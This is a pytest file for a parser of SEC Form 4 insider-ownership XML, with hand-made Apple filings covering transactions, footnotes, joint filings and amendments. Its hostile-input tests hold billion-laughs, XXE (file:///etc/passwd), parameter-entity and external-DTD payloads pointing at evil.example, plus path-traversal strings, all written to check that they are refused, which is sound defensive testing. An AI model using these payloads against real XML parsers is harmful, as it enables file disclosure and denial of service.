"""The ownership-document reader of /v2/filings/{symbol}/insiders
(:mod:`marketdata.providers.sec_insiders`): Form 4 XML in EDGAR's ownership schema (Tables I
and II, footnotes, joint filings, amendments, missing optional elements), the parser's
refusals of hostile or malformed XML, the raw document's name, and which filings a window
reads.

No recording of an ownership document exists: the documents are hand-made in the shape of
EDGAR's ownership XML technical specification (X0508: ``ownershipDocument``,
``reportingOwner``, ``nonDerivativeTable``/``nonDerivativeTransaction``,
``transactionAmounts``/``transactionShares``/``value``, ``footnoteId``), as filed.
"""

from __future__ import annotations

from datetime import date

import pytest

from marketdata.errors import UpstreamBadResponse
from marketdata.providers import sec_insiders
from marketdata.providers.sec_insiders import (
    MAX_ROWS,
    may_hold,
    ownership_filings,
    parse_ownership_document,
    raw_document,
    superseded,
)
from marketdata.records.filings import Filing
from marketdata.records.insiders import (
    CODES,
    DerivativeTerms,
    OwnerRelationship,
    OwnershipFiling,
    ReportingOwner,
)
from marketdata.records.members import as_json

FILING = OwnershipFiling(accession_number="0000320193-25-000059", form="4",
                         filed_at="2025-04-03", report_date="2025-04-01",
                         document="wk-form4_1743719610.xml")

# A Form 4 as EDGAR's filers write it: an officer's RSUs vest (derivative M, shares
# acquired M, withheld for taxes F), two sales under a 10b5-1 plan at weighted average
# prices, and a 401(k) holding (no transaction).
FORM4 = b"""<?xml version="1.0"?>
<ownershipDocument>
    <schemaVersion>X0508</schemaVersion>
    <documentType>4</documentType>
    <periodOfReport>2025-04-01</periodOfReport>
    <notSubjectToSection16>0</notSubjectToSection16>
    <issuer>
        <issuerCik>0000320193</issuerCik>
        <issuerName>Apple Inc.</issuerName>
        <issuerTradingSymbol>AAPL</issuerTradingSymbol>
    </issuer>
    <reportingOwner>
        <reportingOwnerId>
            <rptOwnerCik>0001214156</rptOwnerCik>
            <rptOwnerName>Cook Timothy D</rptOwnerName>
        </reportingOwnerId>
        <reportingOwnerAddress>
            <rptOwnerStreet1>ONE APPLE PARK WAY</rptOwnerStreet1>
            <rptOwnerCity>CUPERTINO</rptOwnerCity>
            <rptOwnerState>CA</rptOwnerState>
            <rptOwnerZipCode>95014</rptOwnerZipCode>
        </reportingOwnerAddress>
        <reportingOwnerRelationship>
            <isDirector>1</isDirector>
            <isOfficer>1</isOfficer>
            <isTenPercentOwner>0</isTenPercentOwner>
            <isOther>0</isOther>
            <officerTitle>Chief Executive Officer</officerTitle>
        </reportingOwnerRelationship>
    </reportingOwner>
    <aff10b5One>1</aff10b5One>
    <nonDerivativeTable>
        <nonDerivativeTransaction>
            <securityTitle><value>Common Stock</value></securityTitle>
            <transactionDate><value>2025-04-01</value></transactionDate>
            <transactionCoding>
                <transactionFormType>4</transactionFormType>
                <transactionCode>M</transactionCode>
                <equitySwapInvolved>0</equitySwapInvolved>
            </transactionCoding>
            <transactionAmounts>
                <transactionShares><value>108136</value></transactionShares>
                <transactionPricePerShare><value>0</value>
                    <footnoteId id="F1"/></transactionPricePerShare>
                <transactionAcquiredDisposedCode><value>A</value></transactionAcquiredDisposedCode>
            </transactionAmounts>
            <postTransactionAmounts>
                <sharesOwnedFollowingTransaction><value>3388050</value></sharesOwnedFollowingTransaction>
            </postTransactionAmounts>
            <ownershipNature>
                <directOrIndirectOwnership><value>D</value></directOrIndirectOwnership>
            </ownershipNature>
        </nonDerivativeTransaction>
        <nonDerivativeTransaction>
            <securityTitle><value>Common Stock</value></securityTitle>
            <transactionDate><value>2025-04-01</value></transactionDate>
            <transactionCoding>
                <transactionFormType>4</transactionFormType>
                <transactionCode>F</transactionCode>
                <equitySwapInvolved>0</equitySwapInvolved>
                <footnoteId id="F2"/>
            </transactionCoding>
            <transactionAmounts>
                <transactionShares><value>59256</value></transactionShares>
                <transactionPricePerShare><value>223.89</value></transactionPricePerShare>
                <transactionAcquiredDisposedCode><value>D</value></transactionAcquiredDisposedCode>
            </transactionAmounts>
            <postTransactionAmounts>
                <sharesOwnedFollowingTransaction><value>3328794</value></sharesOwnedFollowingTransaction>
            </postTransactionAmounts>
            <ownershipNature>
                <directOrIndirectOwnership><value>D</value></directOrIndirectOwnership>
            </ownershipNature>
        </nonDerivativeTransaction>
        <nonDerivativeTransaction>
            <securityTitle><value>Common Stock</value></securityTitle>
            <transactionDate><value>2025-04-02</value></transactionDate>
            <transactionCoding>
                <transactionFormType>4</transactionFormType>
                <transactionCode>S</transactionCode>
                <equitySwapInvolved>0</equitySwapInvolved>
                <footnoteId id="F3"/>
            </transactionCoding>
            <transactionAmounts>
                <transactionShares><value>20000</value></transactionShares>
                <transactionPricePerShare><value>223.1234</value>
                    <footnoteId id="F4"/></transactionPricePerShare>
                <transactionAcquiredDisposedCode><value>D</value></transactionAcquiredDisposedCode>
            </transactionAmounts>
            <postTransactionAmounts>
                <sharesOwnedFollowingTransaction><value>3308794</value></sharesOwnedFollowingTransaction>
            </postTransactionAmounts>
            <ownershipNature>
                <directOrIndirectOwnership><value>D</value></directOrIndirectOwnership>
            </ownershipNature>
        </nonDerivativeTransaction>
        <nonDerivativeTransaction>
            <securityTitle><value>Common Stock</value></securityTitle>
            <transactionDate><value>2025-04-02</value></transactionDate>
            <transactionCoding>
                <transactionFormType>4</transactionFormType>
                <transactionCode>S</transactionCode>
                <equitySwapInvolved>0</equitySwapInvolved>
                <footnoteId id="F3"/>
            </transactionCoding>
            <transactionAmounts>
                <transactionShares><value>12500.5</value></transactionShares>
                <transactionPricePerShare><value>224.5</value>
                    <footnoteId id="F5"/></transactionPricePerShare>
                <transactionAcquiredDisposedCode><value>D</value></transactionAcquiredDisposedCode>
            </transactionAmounts>
            <postTransactionAmounts>
                <sharesOwnedFollowingTransaction><value>3296293.5</value></sharesOwnedFollowingTransaction>
            </postTransactionAmounts>
            <ownershipNature>
                <directOrIndirectOwnership><value>I</value></directOrIndirectOwnership>
                <natureOfOwnership><value>By Trust</value><footnoteId id="F6"/></natureOfOwnership>
            </ownershipNature>
        </nonDerivativeTransaction>
        <nonDerivativeHolding>
            <securityTitle><value>Common Stock</value></securityTitle>
            <postTransactionAmounts>
                <sharesOwnedFollowingTransaction><value>4563</value></sharesOwnedFollowingTransaction>
            </postTransactionAmounts>
            <ownershipNature>
                <directOrIndirectOwnership><value>I</value></directOrIndirectOwnership>
                <natureOfOwnership><value>By 401(k) Plan</value></natureOfOwnership>
            </ownershipNature>
        </nonDerivativeHolding>
    </nonDerivativeTable>
    <derivativeTable>
        <derivativeTransaction>
            <securityTitle><value>Restricted Stock Unit</value></securityTitle>
            <conversionOrExercisePrice><footnoteId id="F7"/></conversionOrExercisePrice>
            <transactionDate><value>2025-04-01</value></transactionDate>
            <transactionCoding>
                <transactionFormType>4</transactionFormType>
                <transactionCode>M</transactionCode>
                <equitySwapInvolved>0</equitySwapInvolved>
            </transactionCoding>
            <transactionAmounts>
                <transactionShares><value>108136</value></transactionShares>
                <transactionPricePerShare><value>0</value></transactionPricePerShare>
                <transactionAcquiredDisposedCode><value>D</value></transactionAcquiredDisposedCode>
            </transactionAmounts>
            <exerciseDate><footnoteId id="F8"/></exerciseDate>
            <expirationDate><footnoteId id="F8"/></expirationDate>
            <underlyingSecurity>
                <underlyingSecurityTitle><value>Common Stock</value></underlyingSecurityTitle>
                <underlyingSecurityShares><value>108136</value></underlyingSecurityShares>
            </underlyingSecurity>
            <postTransactionAmounts>
                <sharesOwnedFollowingTransaction><value>216271</value></sharesOwnedFollowingTransaction>
            </postTransactionAmounts>
            <ownershipNature>
                <directOrIndirectOwnership><value>D</value></directOrIndirectOwnership>
            </ownershipNature>
        </derivativeTransaction>
        <derivativeTransaction>
            <securityTitle><value>Employee Stock Option (right to buy)</value></securityTitle>
            <conversionOrExercisePrice><value>95.50</value></conversionOrExercisePrice>
            <transactionDate><value>2025-04-02</value></transactionDate>
            <transactionCoding>
                <transactionFormType>4</transactionFormType>
                <transactionCode>X</transactionCode>
                <equitySwapInvolved>0</equitySwapInvolved>
            </transactionCoding>
            <transactionAmounts>
                <transactionShares><value>5000</value></transactionShares>
                <transactionPricePerShare><value>0</value></transactionPricePerShare>
                <transactionAcquiredDisposedCode><value>D</value></transactionAcquiredDisposedCode>
            </transactionAmounts>
            <exerciseDate><value>2019-04-02</value></exerciseDate>
            <expirationDate><value>2028-04-01</value></expirationDate>
            <underlyingSecurity>
                <underlyingSecurityTitle><value>Common Stock</value></underlyingSecurityTitle>
                <underlyingSecurityShares><value>5000</value></underlyingSecurityShares>
            </underlyingSecurity>
            <postTransactionAmounts>
                <sharesOwnedFollowingTransaction><value>0</value></sharesOwnedFollowingTransaction>
            </postTransactionAmounts>
            <ownershipNature>
                <directOrIndirectOwnership><value>D</value></directOrIndirectOwnership>
            </ownershipNature>
        </derivativeTransaction>
    </derivativeTable>
    <footnotes>
        <footnote id="F1">Shares acquired on the vesting of restricted stock units.</footnote>
        <footnote id="F2">Shares withheld by Apple to satisfy tax withholding obligations in
            connection with the net share settlement of restricted stock units.</footnote>
        <footnote id="F3">The sales reported were effected pursuant to a Rule 10b5-1 trading plan
            adopted by the reporting person on August 29, 2024.</footnote>
        <footnote id="F4">This transaction was executed in multiple trades at prices ranging from
            $222.60 to $223.59. The price reported reflects the weighted average sale
            price.</footnote>
        <footnote id="F5">Executed in multiple trades at prices ranging from $224.00 to $225.00
            &amp; averaged.</footnote>
        <footnote id="F6">Held by a trust of which the reporting person is trustee.</footnote>
        <footnote id="F7">Each restricted stock unit represents the right to receive, at
            settlement, one share of common stock.</footnote>
        <footnote id="F8">The restricted stock units vest in installments on April 1 of each
            year.</footnote>
    </footnotes>
    <remarks/>
    <ownerSignature>
        <signatureName>/s/ Sam Whittington, Attorney-in-Fact for Timothy D. Cook</signatureName>
        <signatureDate>2025-04-03</signatureDate>
    </ownerSignature>
</ownershipDocument>
"""

COOK = ReportingOwner(name="Cook Timothy D", cik=1214156, relationship=OwnerRelationship(
    director=True, officer=True, officer_title="Chief Executive Officer",
    ten_percent_owner=False, other=False, other_text=None))

# A joint filing of a 10 % owner: a fund and its general partner, an open-market purchase.
JOINT = b"""<?xml version="1.0"?>
<ownershipDocument>
    <schemaVersion>X0508</schemaVersion>
    <documentType>4</documentType>
    <periodOfReport>2025-03-10</periodOfReport>
    <issuer><issuerCik>0000320193</issuerCik><issuerName>Apple Inc.</issuerName>
        <issuerTradingSymbol>AAPL</issuerTradingSymbol></issuer>
    <reportingOwner>
        <reportingOwnerId><rptOwnerCik>0001111111</rptOwnerCik>
            <rptOwnerName>Harbor Capital Partners LP</rptOwnerName></reportingOwnerId>
        <reportingOwnerRelationship><isDirector>false</isDirector><isOfficer>false</isOfficer>
            <isTenPercentOwner>true</isTenPercentOwner><isOther>false</isOther>
        </reportingOwnerRelationship>
    </reportingOwner>
    <reportingOwner>
        <reportingOwnerId><rptOwnerCik>0002222222</rptOwnerCik>
            <rptOwnerName>Harbor Capital GP LLC</rptOwnerName></reportingOwnerId>
        <reportingOwnerRelationship><isTenPercentOwner>1</isTenPercentOwner><isOther>1</isOther>
            <otherText>General partner of a 10% owner</otherText>
        </reportingOwnerRelationship>
    </reportingOwner>
    <nonDerivativeTable>
        <nonDerivativeTransaction>
            <securityTitle><value>Common Stock</value></securityTitle>
            <transactionDate><value>2025-03-10-05:00</value></transactionDate>
            <transactionCoding><transactionFormType>4</transactionFormType>
                <transactionCode>P</transactionCode><equitySwapInvolved>0</equitySwapInvolved>
            </transactionCoding>
            <transactionAmounts>
                <transactionShares><value>250000</value></transactionShares>
                <transactionPricePerShare><value>180.25</value></transactionPricePerShare>
                <transactionAcquiredDisposedCode><value>A</value></transactionAcquiredDisposedCode>
            </transactionAmounts>
            <postTransactionAmounts>
                <sharesOwnedFollowingTransaction><value>150250000</value></sharesOwnedFollowingTransaction>
            </postTransactionAmounts>
            <ownershipNature><directOrIndirectOwnership><value>I</value></directOrIndirectOwnership>
                <natureOfOwnership><value>See footnote</value>
                    <footnoteId id="F1"/></natureOfOwnership>
            </ownershipNature>
        </nonDerivativeTransaction>
    </nonDerivativeTable>
    <footnotes><footnote id="F1">Held by Harbor Capital Partners LP; the GP disclaims beneficial
        ownership.</footnote></footnotes>
</ownershipDocument>
"""


def form(body: bytes, filing: OwnershipFiling = FILING):
    return parse_ownership_document(body, filing)


# -- Table I and Table II, footnotes ------------------------------------------------------------
def test_a_form4_gives_one_row_per_transaction_table_i_first():
    document = form(FORM4)
    assert document.issuer_cik == 320193 and document.period == "2025-04-01"
    assert document.owners == [COOK]
    rows = document.rows
    assert [(r.code, r.derivative is None) for r in rows] == [
        ("M", True), ("F", True), ("S", True), ("S", True), ("M", False), ("X", False)]
    assert all(r.insider == COOK and r.owners == [COOK] for r in rows)
    assert all(r.filed_at == "2025-04-03" and r.accession_number == FILING.accession_number
               and r.form == "4" and r.original_filed_at is None and not r.superseded
               and r.trading_plan is True for r in rows)


def test_a_sale_row_exactly():
    sale = form(FORM4).rows[2]
    assert as_json(sale) | {"insider": None, "owners": None} == {
        "filedAt": "2025-04-03", "accessionNumber": "0000320193-25-000059", "form": "4",
        "originalFiledAt": None, "superseded": False, "insider": None, "owners": None,
        "transactionDate": "2025-04-02", "deemedExecutionDate": None, "code": "S",
        "codeMeaning": "Open market or private sale of non-derivative or derivative security",
        "equitySwap": False, "tradingPlan": True, "securityTitle": "Common Stock",
        "shares": 20000, "price": 223.1234, "value": 4462468.0, "acquiredOrDisposed": "D",
        "sharesOwnedAfter": 3308794, "direct": True, "natureOfOwnership": None,
        "derivative": None, "footnotes": [
            "The sales reported were effected pursuant to a Rule 10b5-1 trading plan adopted "
            "by the reporting person on August 29, 2024.",
            "This transaction was executed in multiple trades at prices ranging from $222.60 "
            "to $223.59. The price reported reflects the weighted average sale price."]}


def test_fractional_shares_indirect_ownership_and_entities_in_footnotes():
    row = form(FORM4).rows[3]
    assert row.shares == 12500.5 and row.shares_owned_after == 3296293.5
    assert row.value == round(12500.5 * 224.5, 2)
    assert row.direct is False and row.nature_of_ownership == "By Trust"
    # coding, price and ownership footnotes, each once, in the row's order; "&amp;" read
    assert row.footnotes[1] == ("Executed in multiple trades at prices ranging from $224.00 "
                                "to $225.00 & averaged.")
    assert row.footnotes[2] == "Held by a trust of which the reporting person is trustee."
    assert len(row.footnotes) == 3


def test_multi_line_footnotes_are_one_line_and_whole_numbers_are_integers():
    row = form(FORM4).rows[1]
    assert row.footnotes == ["Shares withheld by Apple to satisfy tax withholding "
                             "obligations in connection with the net share settlement of "
                             "restricted stock units."]
    assert row.shares == 59256 and isinstance(row.shares, int) and row.price == 223.89
    assert row.code_meaning == CODES["F"]


def test_derivative_rows_carry_their_terms():
    rsu, option = form(FORM4).rows[4:]
    assert rsu.derivative == DerivativeTerms(
        exercise_price=None, exercise_date=None, expiration_date=None,
        underlying_security="Common Stock", underlying_shares=108136)
    assert rsu.security_title == "Restricted Stock Unit"
    assert rsu.footnotes == [
        "Each restricted stock unit represents the right to receive, at settlement, one "
        "share of common stock.",
        "The restricted stock units vest in installments on April 1 of each year."]
    assert option.derivative == DerivativeTerms(
        exercise_price=95.5, exercise_date="2019-04-02", expiration_date="2028-04-01",
        underlying_security="Common Stock", underlying_shares=5000)
    assert option.code == "X" and option.shares_owned_after == 0 and option.footnotes == []


def test_holdings_are_not_transactions():
    assert all(r.nature_of_ownership != "By 401(k) Plan" for r in form(FORM4).rows)


# -- joint filings ------------------------------------------------------------------------------
def test_a_joint_filing_names_every_owner_and_the_first_is_the_insider():
    (row,) = form(JOINT).rows
    fund, partner = row.owners
    assert row.insider == fund
    assert fund == ReportingOwner(
        name="Harbor Capital Partners LP", cik=1111111, relationship=OwnerRelationship(
            director=False, officer=False, officer_title=None, ten_percent_owner=True,
            other=False, other_text=None))
    assert partner.relationship == OwnerRelationship(
        director=False, officer=False, officer_title=None, ten_percent_owner=True,
        other=True, other_text="General partner of a 10% owner")
    # a date with a zone keeps its day; no aff10b5One element: unknown, not false
    assert row.transaction_date == "2025-03-10" and row.trading_plan is None
    assert row.code == "P" and row.value == 45062500.0 and row.direct is False
    assert row.footnotes == ["Held by Harbor Capital Partners LP; the GP disclaims "
                             "beneficial ownership."]


# -- amendments -----------------------------------------------------------------------------------
AMENDED = FORM4.replace(b"<documentType>4</documentType>",
                        b"<documentType>4/A</documentType>\n"
                        b"<dateOfOriginalSubmission>2025-04-03</dateOfOriginalSubmission>")
AMENDMENT = OwnershipFiling(accession_number="0000320193-25-000061", form="4/A",
                            filed_at="2025-04-10", report_date="2025-04-01",
                            document="wk-form4a_1744300000.xml")


def test_an_amendment_says_its_original_filing_and_supersedes_it():
    original, amendment = form(FORM4), form(AMENDED, AMENDMENT)
    assert {r.form for r in amendment.rows} == {"4/A"}
    assert {r.original_filed_at for r in amendment.rows} == {"2025-04-03"}
    assert amendment.original_filed_at == "2025-04-03"
    assert superseded([original, amendment]) == {FILING.accession_number}
    # another owner's, another period's or another day's filing is not the one amended
    other_day = form(FORM4, OwnershipFiling(**{**FILING.__dict__, "filed_at": "2025-04-04"}))
    assert superseded([other_day, amendment]) == set()
    other_owner = form(JOINT, OwnershipFiling(**{**FILING.__dict__,
                                                 "accession_number": "0001111111-25-000001"}))
    assert superseded([other_owner, amendment]) == set()
    other_period = form(FORM4.replace(b"<periodOfReport>2025-04-01",
                                      b"<periodOfReport>2025-03-01"))
    assert superseded([other_period, amendment]) == set()
    assert superseded([original]) == set()


def test_an_original_says_no_original_date_even_if_the_element_is_there():
    stray = FORM4.replace(b"<documentType>4</documentType>",
                          b"<documentType>4</documentType><dateOfOriginalSubmission>"
                          b"2025-01-01</dateOfOriginalSubmission>")
    assert {r.original_filed_at for r in form(stray).rows} == {None}


# -- missing optional elements ----------------------------------------------------------------
BARE = b"""<ownershipDocument>
  <documentType>5</documentType>
  <issuer><issuerCik>320193</issuerCik></issuer>
  <reportingOwner><reportingOwnerId><rptOwnerName>Doe Jane</rptOwnerName></reportingOwnerId>
  </reportingOwner>
  <nonDerivativeTable>
    <nonDerivativeTransaction>
      <securityTitle><value>  Common
         Stock  </value></securityTitle>
      <transactionCoding><transactionCode>g</transactionCode></transactionCoding>
      <transactionAmounts>
        <transactionShares><value></value><footnoteId id="F9"/></transactionShares>
        <transactionAcquiredDisposedCode><value>d</value></transactionAcquiredDisposedCode>
      </transactionAmounts>
    </nonDerivativeTransaction>
    <nonDerivativeTransaction>
      <transactionDate><value>2025-02-30</value></transactionDate>
      <transactionCoding><transactionCode>Q</transactionCode></transactionCoding>
      <transactionAmounts>
        <transactionTotalValue><value>1,250,000.00</value></transactionTotalValue>
        <transactionAcquiredDisposedCode><value>X</value></transactionAcquiredDisposedCode>
      </transactionAmounts>
      <postTransactionAmounts><valueOwnedFollowingTransaction><value>9</value>
      </valueOwnedFollowingTransaction></postTransactionAmounts>
      <ownershipNature><directOrIndirectOwnership><value>?</value></directOrIndirectOwnership>
      </ownershipNature>
    </nonDerivativeTransaction>
  </nonDerivativeTable>
  <derivativeTable/>
</ownershipDocument>"""


def test_missing_optional_elements_are_null_and_the_list_form_wins():
    filing = OwnershipFiling(accession_number="0000320193-25-000070", form="5",
                             filed_at="2025-02-10", report_date="2024-12-31",
                             document="form5.xml")
    document = form(BARE, filing)
    owner = ReportingOwner(name="Doe Jane", cik=None, relationship=OwnerRelationship(
        director=False, officer=False, officer_title=None, ten_percent_owner=False,
        other=False, other_text=None))
    assert document.owners == [owner] and document.period is None
    gift, odd = document.rows
    assert (gift.form, gift.code, gift.code_meaning) == ("5", "G", "Bona fide gift")
    assert gift.security_title == "Common Stock" and gift.transaction_date is None
    assert gift.shares is None and gift.price is None and gift.value is None
    assert gift.acquired_or_disposed == "D" and gift.direct is None
    assert gift.shares_owned_after is None and gift.footnotes == []  # F9 is not in footnotes
    assert gift.equity_swap is None and gift.trading_plan is None
    # an impossible date, an unknown code, a total value instead of shares, an odd flag
    assert odd.transaction_date is None and odd.code == "Q" and odd.code_meaning is None
    assert odd.value == 1250000 and odd.shares is None
    assert odd.acquired_or_disposed is None and odd.direct is None


def test_a_prefixed_namespace_is_read_alike():
    prefixed = FORM4.replace(b"<ownershipDocument>",
                             b'<own:ownershipDocument xmlns:own="urn:x">').replace(
        b"</ownershipDocument>", b"</own:ownershipDocument>")
    assert form(prefixed).rows == form(FORM4).rows


def test_rows_past_the_cap_are_cut():
    row = FORM4.split(b"<nonDerivativeTransaction>")[1].split(b"</nonDerivativeTransaction>")[0]
    many = (b"<ownershipDocument><reportingOwner><reportingOwnerId><rptOwnerName>X"
            b"</rptOwnerName></reportingOwnerId></reportingOwner><nonDerivativeTable>"
            + b"".join(b"<nonDerivativeTransaction>" + row + b"</nonDerivativeTransaction>"
                       for _ in range(MAX_ROWS + 5))
            + b"</nonDerivativeTable></ownershipDocument>")
    assert len(form(many).rows) == MAX_ROWS


# -- hostile and malformed documents ------------------------------------------------------------
LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
          + b"".join(b' <!ENTITY lol%d "' % i + (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;")
                     * 10 + b'">\n' for i in range(1, 10))
          + b"]>\n<ownershipDocument><remarks>&lol9;</remarks></ownershipDocument>")
XXE = (b'<?xml version="1.0"?>\n<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
       b"<ownershipDocument><remarks>&x;</remarks></ownershipDocument>")
PARAMETER = (b'<?xml version="1.0"?>\n<!DOCTYPE o [<!ENTITY % p SYSTEM '
             b'"http://evil.example/x.dtd"> %p;]>\n<ownershipDocument/>')
# A DTD from elsewhere, declaring nothing inline: refused too (never fetched, never read).
EXTERNAL_DTD = FORM4.replace(b'<?xml version="1.0"?>\n', b'<?xml version="1.0"?>\n'
                             b'<!DOCTYPE ownershipDocument SYSTEM "http://evil.example/o.dtd">')
UTF16 = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE o [<!ENTITY e "x">]>'
         "<ownershipDocument>&e;</ownershipDocument>").encode("utf-16")


@pytest.mark.parametrize(("body", "says"), [
    (LAUGHS, "DOCTYPE"), (XXE, "DOCTYPE"), (PARAMETER, "DOCTYPE"), (UTF16, "DOCTYPE"),
    (EXTERNAL_DTD, "DOCTYPE"),
    (b"<ownershipDocument><remarks>&nbsp;</remarks></ownershipDocument>", "not well-formed"),
    (FORM4[:2000], "not well-formed"), (b"", "not well-formed"),
    (b"<html><body>Page Not Found</body></html>", "not an ownershipDocument"),
    (b"<ownershipDocument><issuer/></ownershipDocument>", "without a reporting owner"),
    (b"<ownershipDocument>" + b" " * (sec_insiders.MAX_DOCUMENT_BYTES + 1)
     + b"</ownershipDocument>", "over 2 MB"),
], ids=["billion-laughs", "external-entity", "parameter-entity", "utf16-doctype",
        "external-dtd",
        "undeclared-entity", "truncated", "empty", "html", "no-owner", "too-large"])
def test_hostile_or_malformed_documents_are_a_502_never_expanded(body, says):
    with pytest.raises(UpstreamBadResponse) as caught:
        form(body)
    assert caught.value.provider == "sec" and says in caught.value.detail


# -- the raw document and the window ----------------------------------------------------------
@pytest.mark.parametrize(("primary", "raw"), [
    ("xslF345X05/wk-form4_1691533817.xml", "wk-form4_1691533817.xml"),
    ("xslF345X06/form4.xml", "form4.xml"), ("xslF345X02/wk-form3_1.xml", "wk-form3_1.xml"),
    ("doc4.xml", "doc4.xml"), ("edgardoc.XML", "edgardoc.XML"),
    ("0001209191-04-001234.txt", None), ("", None), (None, None),
    ("../../../etc/passwd.xml", None), ("xslF345X05/../x.xml", None), ("a/b.xml", None),
    ("https://evil.example/x.xml", None), ("xslF345X05/", None),
])
def test_the_raw_xml_is_the_rendering_without_its_xsl_folder(primary, raw):
    assert raw_document(primary) == raw


def listed(form_type: str, filed: str, report: str | None, accession: str,
           primary: str | None = "xslF345X05/wk-form4_1.xml") -> Filing:
    return Filing(accession_number=accession, filing_date=filed, report_date=report,
                  form=form_type, primary_document=primary, primary_doc_description=None,
                  size=None)


def test_only_forms_4_and_5_and_their_amendments_are_ownership_filings():
    rows = [listed("4", "2025-04-03", "2025-04-01", "0000320193-25-000001"),
            listed("3", "2025-04-03", "2025-04-01", "0000320193-25-000002"),
            listed("4/A", "2025-04-05", "2025-04-01", "0000320193-25-000003"),
            listed("5", "2025-02-10", "2024-12-31", "0000320193-25-000004"),
            listed("8-K", "2025-04-03", "2025-04-01", "0000320193-25-000005"),
            listed("4", "2025-04-03", "2025-04-01", "not-an-accession"),
            listed("4", "2025-02-30", "2025-02-27", "0000320193-25-000006"),
            listed("5", "2025-02-11", "2024-13-31", "0000320193-25-000007"),
            listed("4", "2003-01-03", None, "0000320193-03-000001", "form4.txt")]
    found = ownership_filings(rows)
    assert [(f.form, f.accession_number, f.document) for f in found] == [
        ("4", "0000320193-25-000001", "wk-form4_1.xml"),
        ("4/A", "0000320193-25-000003", "wk-form4_1.xml"),
        ("5", "0000320193-25-000004", "wk-form4_1.xml"),
        ("5", "0000320193-25-000007", "wk-form4_1.xml"),
        ("4", "0000320193-03-000001", None)]
    assert found[3].report_date is None  # an impossible period: none, not a 500


@pytest.mark.parametrize(("form_type", "filed", "report", "holds"), [
    ("4", "2025-04-03", "2025-04-01", True),  # inside
    ("4", "2025-03-31", "2025-03-28", False),  # filed before the window: nothing in it
    ("4", "2025-05-02", "2025-04-30", True),  # filed after, its period inside
    ("4", "2025-05-02", "2025-05-01", False),  # its earliest trade after the window
    ("4", "2025-05-20", None, True),  # no period: filed within 45 days of the end
    ("4", "2025-06-20", None, False),
    ("5", "2026-02-10", "2025-12-31", True),  # a Form 5 covers its fiscal year
    ("5/A", "2027-02-10", "2026-12-31", False),
])
def test_which_filings_may_hold_transactions_of_april_2025(form_type, filed, report, holds):
    filing = OwnershipFiling(accession_number="0000320193-25-000001", form=form_type,
                             filed_at=filed, report_date=report, document="x.xml")
    assert may_hold(filing, date(2025, 4, 1), date(2025, 4, 30)) is holds


def test_the_older_pages_of_a_filing_list_newest_first_and_only_edgar_s_names():
    from marketdata.providers import sec
    from marketdata.records.filings import SubmissionsPage

    files = [
        {"name": "CIK0000320193-submissions-001.json", "filingCount": 1234,
         "filingFrom": "1994-01-26", "filingTo": "2015-05-11"},
        {"name": "CIK0000320193-submissions-002.json", "filingCount": 2000,
         "filingFrom": "2015-05-12", "filingTo": "2019-01-02"},
        {"name": "../../etc/passwd", "filingFrom": "2019-01-03", "filingTo": "2020-01-01"},
        {"name": "CIK0000320193-submissions-003.json", "filingFrom": "2020"},
        "CIK0000320193-submissions-004.json", None]
    assert sec.older_pages(files) == (
        SubmissionsPage("CIK0000320193-submissions-002.json", "2015-05-12", "2019-01-02"),
        SubmissionsPage("CIK0000320193-submissions-001.json", "1994-01-26", "2015-05-11"))
    assert sec.older_pages(None) == () and sec.older_pages({"name": "x"}) == ()


def test_the_recording_s_older_page_is_kept_beside_its_filings(recording):
    from marketdata.providers import sec

    found = sec.parse_company_submissions(
        recording("sec/edgar-submissions/CIK0000320193-finance-query.json"))
    assert [page.name for page in found.older_pages] == ["CIK0000320193-submissions-001.json"]
    # and the ownership filings of its recent part: the raw XML of each Form 4
    filings = ownership_filings(found.filings)
    assert filings and {f.form for f in filings} <= {"4", "4/A", "5", "5/A"}
    assert all(f.document and "/" not in f.document and f.document.endswith(".xml")
               for f in filings)
